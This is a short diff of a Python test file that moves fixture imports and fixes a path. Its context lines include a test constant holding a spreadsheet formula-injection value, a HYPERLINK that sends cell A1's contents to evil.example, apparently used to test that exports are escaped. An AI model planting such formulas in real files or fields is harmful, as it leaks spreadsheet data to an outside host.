@@ -15,9 +15,9 @@ from idgraph.graph.decisions import DecisionsInvalid, import_decisions
 from idgraph.graph.review import REVIEW_COLUMNS
 from idgraph.graph.store import Store
 
-from .conftest import attest_fixture, fixture_secrets, sync_fixture
+from .fixtures import attest_fixture, fixture_secrets, sync_fixture
 
-MEMBERS = Path(__file__).resolve().parents[1] / "connector/postmark/emulator/fixtures/members.csv"
+MEMBERS = Path(__file__).resolve().parents[2] / "connector/postmark/emulator/fixtures/members.csv"
 DATA_BLOCK = '<script type="application/gzip+base64" id="report-data">'  # report.js's data
 TODAY = datetime.now(UTC).date().isoformat()  # a review date between the run and today
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
